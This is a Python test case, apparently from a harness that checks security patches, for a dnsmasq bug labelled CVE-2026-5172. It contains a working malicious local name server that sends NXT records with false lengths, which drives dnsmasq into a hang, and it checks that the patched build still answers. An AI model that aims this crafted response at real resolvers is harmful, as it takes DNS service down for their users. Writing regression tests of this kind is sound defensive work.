"""dnsmasq: one process, one thread. The attack comes from the server that it
asks; with the hole open it never comes out of the function again."""
import socket
import struct
import threading

from case import Attack, Case
from service import SILENT, Service
from source import Source

FIX = "debian/patches/CVE-2026-5172.patch"
SOURCE = Source("dnsmasq", "2.90-4~deb12u2", needs="", fixes=[FIX],
                make='make -j"$(nproc)" CFLAGS="$CFLAGS" LDFLAGS="$LDFLAGS"')
A, NXT = 1, 30


class Upstream:
    """A name server whose NXT records lie about their length."""

    def __init__(self):
        self.link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.link.bind(("127.0.0.1", 0))
        self.port = self.link.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                query, peer = self.link.recvfrom(2000)
            except OSError:
                continue
            if not query:
                break
            end = 12 + query[12:].index(0) + 1
            kind, = struct.unpack(">H", query[end:end + 2])
            if kind == NXT:
                name = b"\x20" + b"a" * 32 + b"\x20" + b"b" * 32 + b"\0"
                record = struct.pack(">HHIH", kind, 1, 300, 1) + name + bytes(20)
            else:
                record = struct.pack(">HHIH", kind, 1, 300, 4) + bytes(4)
            self.link.sendto(query[:2] + b"\x81\x80" +
                             struct.pack(">HHHH", 1, 1, 0, 0) +
                             query[12:end + 4] + b"\xc0\x0c" + record, peer)
        self.link.close()

    def close(self):
        # Nothing wakes a thread that waits for a datagram but a datagram.
        self.link.sendto(b"", ("127.0.0.1", self.port))


def start():
    upstream = Upstream()
    service = Service(
        SOURCE.path("src/dnsmasq"), "-k", "-p", "{port}",
        "--listen-address=127.0.0.1", "--bind-interfaces", "--no-resolv",
        "--no-hosts", f"--server=127.0.0.1#{upstream.port}", "--cache-rr=NXT",
        "--user=root", "--conf-file=/dev/null", "--pid-file=",
        "--log-facility=-")
    service.helpers.append(upstream)
    return service


def ask(service, kind):
    query = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\4test\3com\0"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.settimeout(1)
        link.connect(("127.0.0.1", service.port))
        try:
            link.send(query + struct.pack(">HH", kind, 1))
            return "answer" if len(link.recv(2000)) > 12 else "no record"
        except OSError:
            return SILENT


CASES = [Case(
    "17", SOURCE, labels="CVE-2026-5172", fix=FIX, targets="src/dnsmasq",
    start=start, works=lambda service: ask(service, A) != SILENT,
    attacks=[Attack(lambda service: ask(service, NXT), SILENT, "answer")])]
